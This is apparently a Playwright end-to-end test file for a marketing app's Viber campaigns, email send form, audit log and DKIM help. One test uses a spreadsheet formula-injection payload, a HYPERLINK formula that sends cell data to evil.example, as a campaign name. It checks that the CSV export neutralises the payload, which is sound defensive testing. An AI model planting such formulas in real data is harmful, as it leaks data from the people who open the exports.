import { readFileSync } from "node:fs";

import type { Browser, Page } from "@playwright/test";

import { authState } from "./auth-state";
import {
  composerReady,
  fillBasics,
  newPhones,
  openComposer,
  unique,
  viberCreates,
} from "./composer-helpers";
import { describeAs, expect, hydrated, test } from "./fixtures";

/**
 * What people asked for and could not find (issue 33), used end to end by the
 * role that asked: duplicating a campaign and sending a test (marketer), the
 * send form's hard-bounce warning (marketer), the campaign list's dates, cost
 * and CSV (marketer), the users' last sign-in and the audit log's CSV (admin),
 * and the domain card's DKIM help (admin).
 */

interface ListedCampaign {
  id: number;
  name: string;
  status: string | null;
  send_date: string;
  address_book_id: number | null;
}
interface Money {
  currency: string;
  amount: number;
}

const origin = () => new URL(test.info().project.use.baseURL!).origin;
const money = (m: Money) =>
  new Intl.NumberFormat("en-US", { style: "currency", currency: m.currency }).format(m.amount);

async function getJson<T>(page: Page, path: string): Promise<T> {
  const res = await page.request.get(path, { maxRetries: 1 });
  expect(res.status(), path).toBe(200);
  return (await res.json()) as T;
}

async function campaigns(page: Page): Promise<ListedCampaign[]> {
  return (await getJson<{ items: ListedCampaign[] }>(page, "/api/viber/campaigns?limit=500")).items;
}

/** A page signed in as another role, beside the test's own. */
async function asRole(browser: Browser, role: "admin" | "marketer"): Promise<Page> {
  const context = await browser.newContext({
    storageState: authState(role),
    baseURL: test.info().project.use.baseURL,
  });
  return context.newPage();
}

/** The composer's draft as the server holds it: its campaign name. */
async function draftName(page: Page): Promise<unknown> {
  const reply = await getJson<{ draft: { data: { task_name?: unknown } } | null }>(
    page,
    "/api/drafts/viber-campaign",
  );
  return reply.draft?.data.task_name;
}

async function download(page: Page, click: () => Promise<void>) {
  const downloading = page.waitForEvent("download");
  await click();
  const file = await downloading;
  const lines = readFileSync(await file.path(), "utf8")
    .trim()
    .split(/\r?\n/);
  return { name: file.suggestedFilename(), header: lines[0]!, rows: lines.slice(1) };
}

test.describe.configure({ timeout: 120_000 });

describeAs("marketer", "a marketer duplicates a campaign and sends a test", () => {
  test("Duplicate fills the composer with the campaign, asking before it replaces a draft", async ({
    page,
    axe,
  }) => {
    const all = await campaigns(page);
    // a sent one to an address book with text, button and image, and a sent one to typed phones
    type Record = {
      campaign: { message: string | null; button_text: string | null; image_link: string | null };
    };
    let byBook: ListedCampaign | undefined;
    let bookRecord: Record["campaign"] | undefined;
    for (const c of all.filter((c) => c.status === "sent" && c.address_book_id !== null)) {
      const r = await getJson<Record>(page, `/api/viber/campaigns/${c.id}?summary=false`);
      if (r.campaign.message && r.campaign.button_text && r.campaign.image_link) {
        [byBook, bookRecord] = [c, r.campaign];
        break;
      }
    }
    const byPhones = all.find((c) => c.status === "sent" && c.address_book_id === null);
    expect(byBook && byPhones).toBeTruthy();

    await openComposer(page); // no draft
    await page.goto(`/viber/campaigns/${byBook!.id}`);
    // CI failed here twice (still on the campaign's page 10 s after the click); not
    // reproduced since. The click waits for React's page; the composer's 20 s allowed.
    await hydrated(page);
    await page.getByRole("link", { name: "Duplicate", exact: true }).click();
    await expect(page).toHaveURL(/\/viber\/campaigns\/new/, { timeout: 20_000 });
    await composerReady(page);
    await expect(page.getByRole("status").filter({ hasText: "A copy of" })).toContainText(
      "its message, sender, button, image and address book",
    );
    await expect(page).not.toHaveURL(/duplicate=/); // a reload does not ask again
    await expect(page.getByLabel("Campaign name")).toHaveValue(`Copy of ${byBook!.name}`);
    await expect(page.getByLabel("Message text")).toHaveValue(bookRecord!.message!);
    await expect(page.getByLabel("Button text")).toHaveValue(bookRecord!.button_text!);
    await expect(page.getByLabel("Image link")).toHaveValue(bookRecord!.image_link!);
    await expect(page.getByRole("combobox", { name: "Address book" })).toHaveValue(
      String(byBook!.address_book_id),
    );
    await expect.poll(() => draftName(page), { timeout: 20_000 }).toBe(`Copy of ${byBook!.name}`);
    await axe();

    // with a draft in the composer, Duplicate asks; replacing fills in the typed phones
    await page.getByLabel("Campaign name").fill("My own draft");
    await expect.poll(() => draftName(page), { timeout: 20_000 }).toBe("My own draft");
    await page.goto(`/viber/campaigns/${byPhones!.id}`);
    await hydrated(page);
    await page.getByRole("link", { name: "Duplicate", exact: true }).click();
    const ask = page.getByRole("alertdialog", { name: /Replace your draft with a copy of/ });
    await expect(ask).toBeVisible();
    await expect(page.getByLabel("Campaign name")).toHaveValue("My own draft");
    await ask.getByRole("button", { name: "Replace my draft" }).click();
    await expect(page.getByLabel("Campaign name")).toHaveValue(`Copy of ${byPhones!.name}`);
    const recipients = await getJson<{ items: { phone: string }[]; total: number }>(
      page,
      `/api/viber/campaigns/${byPhones!.id}/recipients?limit=1000`,
    );
    const typed = (await page.getByRole("textbox", { name: "Phone numbers" }).inputValue())
      .split("\n")
      .map((p) => p.replace("+", ""));
    expect(new Set(typed)).toEqual(new Set(recipients.items.map((r) => r.phone)));
    expect(typed.length).toBe(recipients.total);
  });

  test("Send a test to my phone: checked, sent as a real one-phone campaign, audited, remembered", async ({
    page,
    browser,
    axe,
  }) => {
    const name = unique("Test me");
    const [phone] = newPhones(1);
    await openComposer(page);
    await fillBasics(page, { name, message: "Is this how it looks?" });
    const panel = page.getByRole("region", { name: "Send a test to my phone" });
    await expect(panel).toContainText("It costs one message");
    const field = panel.getByLabel("My phone number");
    await field.fill("12345");
    await panel.getByRole("button", { name: "Send test" }).click();
    await expect(panel.getByText("Not a phone number we can send to: too short.")).toBeVisible();

    const creates = await viberCreates();
    await field.fill(`+${phone!.slice(0, 3)} ${phone!.slice(3, 5)} ${phone!.slice(5)}`);
    await panel.getByRole("button", { name: "Send test" }).click();
    await expect(panel.getByText(`Test sent to +${phone}`)).toBeVisible({ timeout: 20_000 });
    const link = panel.getByRole("link", { name: /campaign #\d+/ });
    const id = Number((await link.innerText()).replace(/\D/g, ""));
    await axe({ include: "section[aria-labelledby]" });

    // the upstream received one create, and holds the campaign with the composer's message
    // (its one recipient is listed once moderation lets it send: minutes on the upstream's clock)
    expect(await viberCreates()).toBe(creates + 1);
    const created = await getJson<{ campaign: { name: string; message: string; status: string } }>(
      page,
      `/api/viber/campaigns/${id}?summary=false`,
    );
    expect(created.campaign).toMatchObject({
      name: `Test: ${name}`,
      message: "Is this how it looks?",
      status: "moderation",
    });

    // audited as the marketer's campaign.test, with the upstream's id
    const admin = await asRole(browser, "admin");
    const audit = await getJson<{
      items: { userEmail: string; upstreamId: string; outcome: string; target: string }[];
    }>(admin, "/api/audit?action=campaign.test&limit=5");
    expect(audit.items[0]).toMatchObject({
      userEmail: "marketer@example.com",
      upstreamId: String(id),
      outcome: "ok",
      target: `Test → +${phone}`,
    });
    await admin.context().close();

    // remembered in this browser for next time
    await page.reload();
    await composerReady(page);
    await expect(
      page.getByRole("region", { name: "Send a test to my phone" }).getByLabel("My phone number"),
    ).toHaveValue(/\+380/);
  });
});

describeAs("marketer", "a marketer is warned of an address that bounced hard", () => {
  test("the send form names the bounce (date and 550 answer) and removes the address", async ({
    page,
  }) => {
    await page.request.delete("/api/drafts/email", { data: {}, headers: { Origin: origin() } });
    const bounces = await getJson<{
      items: { email_to: string; smtp_answer_code: number; smtp_answer_subcode: string }[];
    }>(page, "/api/email/bounces?limit=1000");
    const hard = bounces.items.find((b) => b.smtp_answer_code === 550);
    expect(hard, "a 550 bounce in the last 24 hours").toBeTruthy();
    const good = `someone.${Date.now()}@example.com`;

    await page.goto("/email/send");
    const to = page.getByLabel("To", { exact: true });
    await to.fill(`${good}, ${hard!.email_to}`);
    await to.press("Enter");
    const notice = page.getByRole("status", { name: "Recipients that bounced hard" });
    await expect(notice).toContainText(`${hard!.email_to.toLowerCase()} bounced hard on`);
    await expect(notice).toContainText(`550 ${hard!.smtp_answer_subcode}`);
    await notice.getByRole("button", { name: "Remove it" }).click();
    await expect(notice).toBeHidden();
    await expect(page.getByRole("listitem").filter({ hasText: good })).toBeVisible();
    await expect(page.getByRole("listitem").filter({ hasText: hard!.email_to })).toHaveCount(0);
  });
});

describeAs(
  "marketer",
  "a marketer reads the campaign list by dates, with cost, and exports it",
  () => {
    test("date range in the URL, the cost column as the campaign page adds it up, the CSV of the view", async ({
      page,
    }) => {
      const all = await campaigns(page);
      const blackFridayDay = all.find((c) => c.id === 1)?.send_date.slice(0, 10);
      // the oldest such campaign: a demo one whose figures (and cost) are final, not one
      // an earlier test sent, whose figures may still move between the reads below
      const pick = all
        .toSorted((a, b) => a.id - b.id)
        .find(
          (c) =>
            c.status === "sent" &&
            c.address_book_id === null &&
            c.send_date.slice(0, 10) !== blackFridayDay,
        )!;
      const day = pick.send_date.slice(0, 10);
      const sameDay = all.filter((c) => c.send_date.slice(0, 10) === day);
      const cost = (
        await getJson<{ cost: Money[] }>(page, `/api/viber/campaigns/${pick.id}/recipients?limit=1`)
      ).cost;
      expect(cost.length, "the picked campaign has a cost").toBeGreaterThan(0);

      await page.goto("/viber/campaigns");
      await hydrated(page); // a date typed before that is reset by React's first render
      await page.getByLabel("Send date from").fill(day);
      // the first date is in the URL before the second is typed, as when a person types them
      await expect(page).toHaveURL(new RegExp(`from=${day}`));
      await page.getByLabel("Send date to").fill(day);
      await expect(page).toHaveURL(new RegExp(`from=${day}.*to=${day}|to=${day}.*from=${day}`));
      const rows = page.getByRole("table", { name: "Campaigns" }).locator("tbody tr");
      await expect(rows).toHaveCount(sameDay.length);
      const row = rows.filter({ hasText: `#${pick.id}` });
      await expect(row).toContainText(cost.map(money).join(" + "), { timeout: 30_000 });

      // a link keeps the range
      await page.reload();
      await expect(page.getByLabel("Send date from")).toHaveValue(day);
      await expect(rows).toHaveCount(sameDay.length);

      const csv = await download(page, () =>
        page.getByRole("link", { name: /Export CSV/ }).click(),
      );
      expect(csv.name).toBe("campaigns.csv");
      expect(csv.header).toBe(
        "id,name,status,sender_name,created,send_date,address_book_id,cost,currency",
      );
      expect(csv.rows).toHaveLength(sameDay.length);
      const line = csv.rows.find((l) => l.startsWith(`${pick.id},`))!;
      expect(
        line.endsWith(
          `,${cost.map((m) => m.amount.toFixed(4)).join(" + ")},${cost.map((m) => m.currency).join(" + ")}`,
        ),
      ).toBe(true);
    });

    test("a campaign named like a spreadsheet formula is exported as text", async ({ page }) => {
      // anyone who creates campaigns chooses the name a colleague's spreadsheet opens
      const name = `=HYPERLINK("http://evil.example/?"&A1,"Open") ${Date.now()}`;
      const templates = await getJson<{ items: { text: string }[] }>(page, "/api/viber/templates");
      const res = await page.request.post("/api/viber/campaigns", {
        headers: { Origin: origin(), "Idempotency-Key": crypto.randomUUID() },
        data: {
          task_name: name,
          message_type: 3,
          sender_id: 1,
          message_live_time: 3600,
          send_date: "now",
          recipients: newPhones(1),
          message: templates.items[0]!.text,
        },
      });
      expect(res.status()).toBe(200);
      const csv = await page.request.get(
        `/api/viber/campaigns?${new URLSearchParams({ format: "csv", q: name.slice(-13) })}`,
      );
      expect(csv.status()).toBe(200);
      const [, line] = (await csv.text()).trim().split("\n");
      expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open"") `);
    });
  },
);

describeAs("admin", "an admin reads sign-ins and exports the audit log", () => {
  test("Last sign-in agrees with the audit log, and the log's CSV holds the filtered view", async ({
    page,
  }) => {
    const { items: users } = await getJson<{
      items: { id: number; email: string; lastSignInAt: string | null }[];
    }>(page, "/api/users");
    const admin = users.find((u) => u.email === "admin@example.com")!;
    const signIns = await getJson<{ items: { at: string }[]; total: number }>(
      page,
      `/api/audit?action=auth.sign_in&user=${admin.id}&limit=50`,
    );
    expect(admin.lastSignInAt).toBe(signIns.items[0]!.at);

    await page.goto("/admin/users");
    const table = page.getByRole("table", { name: "Users" });
    await expect(table.getByRole("columnheader", { name: "Last sign-in" })).toBeVisible();
    const row = table.getByRole("row").filter({ hasText: "admin@example.com" });
    await expect(row.locator("time")).toHaveAttribute("datetime", /^\d{4}-\d{2}-\d{2}/);

    await page.goto("/admin/audit?action=auth.sign_in");
    await expect(page.getByText(/entries · page 1/)).toBeVisible();
    const total = (await getJson<{ total: number }>(page, "/api/audit?action=auth.sign_in&limit=1"))
      .total;
    const csv = await download(page, () => page.getByRole("link", { name: "Export CSV" }).click());
    expect(csv.name).toMatch(/^audit-log-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(csv.header).toBe(
      "at,user_email,role,action,target,outcome,error_code,error_message,upstream_id,request_digest",
    );
    expect(csv.rows).toHaveLength(total);
    for (const line of csv.rows) expect(line.split(",")[3]).toBe("auth.sign_in");
  });
});

describeAs("admin", "an admin finds a domain's DKIM selector", () => {
  test("the card says which record to publish and reads s= and d= from a pasted header", async ({
    page,
    axe,
  }) => {
    const { items } = await getJson<{ items: { domain: string }[] }>(page, "/api/email/domains");
    const domain = items[0]!.domain;
    await page.goto("/email/domains");
    const card = page.getByRole("region", { name: domain, exact: true });
    const help = card.locator("details").filter({ hasText: "DKIM record and selector" });
    if (!(await help.getAttribute("open"))) await help.locator("summary").click();
    await expect(help.getByTestId("dkim-record")).toHaveText(
      `<selector>._domainkey.${domain} TXT "v=DKIM1; k=rsa; p=…"`,
    );
    const box = help.getByLabel("Paste one DKIM-Signature header");
    await box.fill("Subject: hello");
    await expect(help.getByText("No s= or d= tag found")).toBeVisible();
    await box.fill(
      `DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n\td=${domain}; s=mta2024;\n\th=from:to:subject; bh=abc=; b=xyz`,
    );
    const read = help.getByRole("status");
    await expect(read).toContainText("Selectormta2024");
    await expect(read).toContainText(`Signing domain${domain}`);
    await expect(read).toContainText(`DNS name to check`);
    await expect(read).toContainText(`mta2024._domainkey.${domain}`);
    await expect(help.getByTestId("dkim-record")).toHaveText(
      `mta2024._domainkey.${domain} TXT "v=DKIM1; k=rsa; p=…"`,
    );
    await expect(read).not.toContainText("does not count");
    await axe({ include: `[id="${domain}"]` });

    await box.fill("DKIM-Signature: v=1; d=esp-mailer.example; s=k1; b=x");
    await expect(help.getByRole("status")).toContainText(
      `signed for esp-mailer.example, not ${domain}`,
    );
  });
});
